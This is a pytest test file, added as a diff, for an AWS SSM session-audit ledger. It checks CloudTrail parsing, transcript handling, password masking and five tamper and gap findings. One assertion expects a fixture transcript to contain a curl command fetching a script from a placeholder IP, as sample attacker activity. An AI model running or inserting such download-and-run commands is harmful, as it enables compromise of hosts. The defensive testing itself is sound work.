@@ -1,0 +1,339 @@
+"""The session ledger's decisions (sessionguard.ledger) on real-format inputs: CloudTrail's session calls and S3's
+notifications from EventBridge (events/ledger-*.json), the agent's plain-text upload, and each finding raised by
+the session that should raise it and not by a normal session."""
+
+from __future__ import annotations
+
+import json
+import sys
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sessionguard.ledger.calls import session_call, session_id_of_key, started_via, transcript_object
+from sessionguard.ledger.decisions import (
+    LedgerTimings,
+    closed_by_describe,
+    due_findings,
+    overwrite_finding,
+    plan_transcript_scan,
+    still_open,
+)
+from sessionguard.ledger.findings import (
+    LOG_WITHOUT_SESSION,
+    NO_TRANSCRIPT,
+    NOT_STREAMED,
+    STREAMING_STOPPED,
+    TRANSCRIPT_OVERWRITTEN,
+    FindingsError,
+    findings,
+    load_findings,
+)
+from sessionguard.ledger.model import SessionRecord, stream_delivery
+from sessionguard.session.records import SessionEvent, events_from_subscription
+
+REPO = Path(__file__).resolve().parents[2]
+EVENTS = REPO / "events"
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+import make_ledger_fixtures as fixtures  # noqa: E402
+
+T0 = 1_795_700_000  # a start time, epoch seconds
+TIMINGS = LedgerTimings(not_streamed_after=300, no_transcript_after=900, start_grace=1200)
+
+
+def sample(name: str) -> dict[str, Any]:
+    return json.loads((EVENTS / name).read_text(encoding="utf-8"))  # type: ignore[no-any-return]
+
+
+def shell(**fields: Any) -> SessionRecord:
+    """A shell session started at T0 (what StartSession of the preferences document records)."""
+    base = SessionRecord(
+        session_id="jane.roe-0131a888507e892b1",
+        started_at=T0,
+        target="i-0fedcba9876543210",
+        document="SSM-SessionManagerRunShell",
+        first_seen=T0,
+    )
+    return replace(base, **fields)
+
+
+def streamed(**fields: Any) -> SessionRecord:
+    return shell(stream_first=T0 + 2, stream_last=T0 + 400, stream_events=12, stream_lines=30, **fields)
+
+
+def finding_ids(record: SessionRecord, now: int) -> list[str]:
+    return [d.finding_id for d in due_findings(record, now, TIMINGS)]
+
+
+# --- the fixtures are what the generator (and so the agent's code) makes ----------------------------------------
+
+
+def test_fixtures_agree_with_their_generator(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(fixtures, "EVENTS", tmp_path)
+    for name in EVENTS.glob("cloudtrail-ssm-start-session-logged-shell.json"):
+        (tmp_path / name.name).write_bytes(name.read_bytes())
+    fixtures.main()
+    for made in tmp_path.glob("ledger-*"):
+        assert made.read_bytes() == (EVENTS / made.name).read_bytes(), made.name
+
+
+def test_plain_text_events_are_whole_lines_up_to_200000_bytes_with_crlf_made_lf_and_no_final_newline() -> None:
+    typescript = "Script started on 2026-11-26 15:20:05+00:00\n" + "x" * 150_000 + "\r\n" + "y" * 80_000 + "\r\n"
+    messages = fixtures.plain_text_messages(typescript)
+    assert [len(m.encode()) for m in messages] == [44 + 150_000, 80_000]
+    assert all("\r" not in m and not m.endswith("\n") for m in messages)
+
+
+# --- the plain-text upload is read as a transcript --------------------------------------------------------------
+
+
+def test_the_agents_plain_text_upload_is_read_as_the_sessions_transcript() -> None:
+    payload = sample("ledger-subscription-plain-text.json")
+    (event,) = events_from_subscription(payload)
+    assert isinstance(event, SessionEvent)
+    assert event.transcript
+    assert event.session_id == fixtures.COMMAND_SESSION  # the log stream is named after the session
+    assert event.event_time == "2026-11-26T15:20:05+00:00"  # from `Script started on`
+    assert not any(line.startswith("Script ") for line in event.lines)
+    assert any("curl -fsSL http://203.0.113.50/i.sh" in line for line in event.lines)
+
+
+def test_plain_text_among_streamed_json_events_is_still_malformed() -> None:
+    payload = sample("ledger-subscription-plain-text.json")
+    streamed_event = {"eventVersion": "1.0", "sessionId": fixtures.COMMAND_SESSION, "sessionData": ["$ id"],
+                      "target": {"id": "i-1"}, "userIdentity": {"arn": "a"}, "runAsUser": "", "awsRegion": "",
+                      "eventTime": ""}  # fmt: skip
+    payload["logEvents"].append({"id": "1", "timestamp": 1, "message": json.dumps(streamed_event)})
+    kinds = [type(item).__name__ for item in events_from_subscription(payload)]
+    assert kinds == ["InputProblem", "SessionEvent"]
+
+
+# --- Start: CloudTrail's session calls --------------------------------------------------------------------------
+
+
+def test_start_session_gives_the_session_id_from_the_response_and_the_callers_context() -> None:
+    call = session_call(sample("cloudtrail-ssm-start-session-logged-shell.json"))
+    assert call is not None
+    assert (call.name, call.session_id, call.target) == (
+        "StartSession",
+        "jane.roe-0131a888507e892b1",
+        "i-0fedcba9876543210",
+    )
+    assert call.document == "SSM-SessionManagerRunShell"
+    assert call.identity_type == "AssumedRole"
+    assert call.mfa == "false"
+    assert (call.source_ip, call.started_via) == ("203.0.113.24", "cli")
+    assert call.event_id == "d4e0fc28-b0fa-aa74-7211-7527dce1f54e"
+
+
+def test_the_reason_is_masked() -> None:
+    call = session_call(sample("ledger-cloudtrail-start-interactive-bash.json"))
+    assert call is not None
+    assert call.document == "AWS-StartInteractiveCommand"
+    assert "hunter2" not in call.reason
+    assert call.reason.startswith("fix cron; db password [MASKED")
+
+
+@pytest.mark.parametrize(
+    ("name", "call_name"),
+    [
+        ("ledger-cloudtrail-resume-session.json", "ResumeSession"),
+        ("ledger-cloudtrail-terminate-session.json", "TerminateSession"),
+    ],
+)
+def test_resume_and_terminate_name_the_session(name: str, call_name: str) -> None:
+    call = session_call(sample(name))
+    assert call is not None
+    assert (call.name, call.session_id) == (call_name, "jane.roe-0131a888507e892b1")
+
+
+def test_a_failed_call_or_another_call_is_not_a_session_call() -> None:
+    failed = sample("cloudtrail-ssm-start-session-logged-shell.json")
+    failed["detail"]["errorCode"] = "AccessDeniedException"
+    assert session_call(failed) is None
+    assert session_call(sample("cloudtrail-ssm-update-preferences.json")) is None
+    assert session_call({"detail": "junk"}) is None
+
+
+@pytest.mark.parametrize(
+    ("agent", "via"),
+    [
+        ("aws-cli/2.22.4 md/command#ssm.start-session", "cli"),
+        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "console"),
+        ("console.amazonaws.com", "console"),
+        ("Boto3/1.35.0 md/Botocore#1.35.0", "sdk"),
+        ("", ""),
+    ],
+)
+def test_how_a_session_was_started_comes_from_the_user_agent(agent: str, via: str) -> None:
+    assert started_via(agent) == via
+
+
+# --- Transcript: S3's notification ------------------------------------------------------------------------------
+
+
+def test_an_object_created_notification_names_the_session_size_and_version() -> None:
+    obj = transcript_object(sample("ledger-s3-object-created.json"), "sessions")
+    assert obj is not None
+    assert (obj.session_id, obj.size, obj.version_id) == ("jane.roe-0131a888507e892b1", 1893, "3HL4kqtJvjVBH40Nrjfkd")
+    assert transcript_object(sample("ledger-s3-object-created.json"), "other-prefix") is None
+
+
+@pytest.mark.parametrize(
+    ("key", "session_id"), [("sessions/a.b-0123.log", "a.b-0123"), ("x/notes.txt", ""), ("x/.log", "")]
+)
+def test_the_session_id_is_the_key_name_without_log(key: str, session_id: str) -> None:
+    assert session_id_of_key(key) == session_id
+
+
+# --- Stream: one update per delivery ----------------------------------------------------------------------------
+
+
+def test_a_delivery_counts_streamed_events_and_lines_apart_from_plain_text() -> None:
+    json_event = SessionEvent("s-1", ("$ id", "uid=0"))
+    text_event = SessionEvent("s-1", ("a", "b", "c"), transcript=True)
+    delivery = stream_delivery("s-1", "b-1", [1_795_700_002_500, 1_795_700_001_000], [json_event, text_event], 0)
+    assert delivery is not None
+    assert (delivery.first_event, delivery.last_event) == (1_795_700_001, 1_795_700_002)
+    assert (delivery.events, delivery.lines, delivery.plain_text_events) == (1, 2, 1)
+    assert stream_delivery("s-1", "b-2", [], [], 0) is None
+
+
+# --- SG-LG-001 session not streamed -----------------------------------------------------------------------------
+
+
+def test_sg_lg_001_a_shell_session_active_five_minutes_without_a_stream_is_found() -> None:
+    assert finding_ids(shell(), T0 + 300) == [NOT_STREAMED]
+
+
+def test_sg_lg_001_a_streamed_session_or_one_younger_than_the_threshold_is_not() -> None:
+    assert finding_ids(streamed(), T0 + 300) == []
+    assert finding_ids(shell(), T0 + 299) == []
+
+
+def test_sg_lg_001_a_port_forwarding_session_is_not_expected_to_stream() -> None:
+    assert finding_ids(shell(document="AWS-StartPortForwardingSession"), T0 + 3600) == []
+
+
+def test_sg_lg_001_is_raised_once() -> None:
+    assert finding_ids(shell(findings=frozenset({NOT_STREAMED})), T0 + 600) == []
+
+
+# --- SG-LG-002 streaming stopped --------------------------------------------------------------------------------
+
+
+def test_sg_lg_002_commands_after_the_streamed_lines_mean_streaming_stopped() -> None:
+    record = streamed()
+    lines = ["line"] * 45
+    plan = plan_transcript_scan(record, lines, commands_after=3)
+    assert plan.finding is not None
+    assert plan.finding.finding_id == STREAMING_STOPPED
+    assert plan.start == 30  # only the unstreamed part is scanned: the streamed part's alerts were sent
+
+
+def test_sg_lg_002_a_transcript_holding_what_was_streamed_is_not_scanned_again() -> None:
+    plan = plan_transcript_scan(streamed(), ["line"] * 30, commands_after=0)
+    assert (plan.finding, plan.scan) == (None, False)
+
+
+def test_a_session_never_streamed_has_its_whole_transcript_scanned_without_sg_lg_002() -> None:
+    plan = plan_transcript_scan(shell(), ["line"] * 10, commands_after=0)
+    assert (plan.finding, plan.start) == (None, 0)
+
+
+def test_a_session_read_from_its_plain_text_upload_is_not_scanned_twice() -> None:
+    plan = plan_transcript_scan(shell(plain_text_events=1), ["line"] * 10, commands_after=2)
+    assert (plan.finding, plan.scan) == (None, False)
+
+
+# --- SG-LG-003 no transcript ------------------------------------------------------------------------------------
+
+
+def test_sg_lg_003_a_session_ended_fifteen_minutes_ago_without_a_transcript_is_found() -> None:
+    assert finding_ids(streamed(ended_at=T0 + 600), T0 + 600 + 900) == [NO_TRANSCRIPT]
+
+
+def test_sg_lg_003_a_session_with_its_transcript_or_ended_recently_is_not() -> None:
+    assert finding_ids(streamed(ended_at=T0 + 600, transcript_key="sessions/x.log"), T0 + 3600) == []
+    assert finding_ids(streamed(ended_at=T0 + 600), T0 + 600 + 899) == []
+    assert finding_ids(shell(document="AWS-StartSSHSession", ended_at=T0 + 60), T0 + 3600) == []
+
+
+# --- SG-LG-004 log without a session ----------------------------------------------------------------------------
+
+
+def test_sg_lg_004_a_stream_no_start_session_names_is_found_after_the_cloudtrail_grace() -> None:
+    orphan = SessionRecord(session_id="ghost-0a1b2c3d4e5f60718", stream_first=T0, stream_events=3, first_seen=T0)
+    assert finding_ids(orphan, T0 + 1200) == [LOG_WITHOUT_SESSION]
+
+
+def test_sg_lg_004_a_stream_whose_start_arrives_within_the_grace_is_not() -> None:
+    orphan = SessionRecord(session_id="ghost-0a1b2c3d4e5f60718", stream_first=T0, stream_events=3, first_seen=T0)
+    assert finding_ids(orphan, T0 + 1199) == []
+    assert finding_ids(streamed(), T0 + 1200) == []
+
+
+def test_sg_lg_004_events_claiming_another_session_are_found_at_once() -> None:
+    assert finding_ids(streamed(forged_events=2), T0 + 10) == [LOG_WITHOUT_SESSION]
+
+
+# --- SG-LG-005 transcript overwritten ---------------------------------------------------------------------------
+
+
+def test_sg_lg_005_a_second_version_of_the_transcript_is_found() -> None:
+    record = streamed(transcript_key="sessions/x.log", transcript_version="v1", transcript_versions=1)
+    due = overwrite_finding(record, "v2")
+    assert due is not None
+    assert due.finding_id == TRANSCRIPT_OVERWRITTEN
+
+
+def test_sg_lg_005_the_first_version_or_the_same_version_again_is_not() -> None:
+    assert overwrite_finding(streamed(), "v1") is None
+    assert overwrite_finding(streamed(transcript_key="sessions/x.log", transcript_version="v1"), "v1") is None
+
+
+# --- a normal session raises nothing, and the reconciler lets go of it -------------------------------------------
+
+
+def test_a_normal_session_raises_no_finding_at_any_time() -> None:
+    normal = streamed(ended_at=T0 + 600, end_source="TerminateSession", transcript_key="sessions/x.log",
+                      transcript_version="v1", transcript_versions=1)  # fmt: skip
+    for now in (T0 + 60, T0 + 600, T0 + 3600, T0 + 86400):
+        assert finding_ids(normal, now) == []
+    assert not still_open(normal, T0 + 3600, TIMINGS)
+    assert still_open(streamed(), T0 + 3600, TIMINGS)  # running: look again
+
+
+def test_the_reconciler_closes_from_history_or_after_a_quiet_stream() -> None:
+    record = streamed()
+    assert closed_by_describe(record, {record.session_id}, {}, T0 + 7200) == 0
+    assert closed_by_describe(record, set(), {record.session_id: T0 + 700}, T0 + 7200) == T0 + 700
+    assert closed_by_describe(record, set(), {}, T0 + 400 + 3600) == T0 + 400
+    assert closed_by_describe(record, set(), {}, T0 + 401) == 0
+
+
+# --- the findings as data ---------------------------------------------------------------------------------------
+
+
+def test_every_finding_has_an_id_title_docs_and_examples() -> None:
+    catalog = findings()
+    assert list(catalog) == [
+        NOT_STREAMED,
+        STREAMING_STOPPED,
+        NO_TRANSCRIPT,
+        LOG_WITHOUT_SESSION,
+        TRANSCRIPT_OVERWRITTEN,
+    ]
+    docs = (REPO / "docs" / "ledger.md").read_text(encoding="utf-8")
+    for finding in catalog.values():
+        assert finding.title
+        assert finding.description
+        assert finding.alert_example
+        assert finding.quiet_example
+        assert f"| {finding.id} | {finding.title} |" in docs
+
+
+def test_the_loader_refuses_a_finding_with_a_wrong_condition() -> None:
+    with pytest.raises(FindingsError):
+        load_findings({"findings": [{"id": "SG-LG-001", "when": "no_transcript"}]})
